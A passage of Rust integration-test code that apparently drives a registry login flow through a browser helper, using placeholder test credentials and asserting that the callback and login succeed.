            all.push(l);
        }
        all
    });
    if sessions {
        silent_step_in(&app, &browser, url.as_str()).await;
    } else {
        let q: Vec<(String, String)> = url
            .query_pairs()
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect();
        let q: Vec<(&str, &str)> = q.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let callback = app
            .login(&browser, &q, "admin@example.com", "password")
            .await;
        assert!(reqwest::get(&callback).await.unwrap().status().is_success());
    }
    let done = login.wait().await.unwrap().success();
    assert!(done, "registry login finished: {:?}", rest.await.unwrap());
    count(&app, LOGINS).await
}
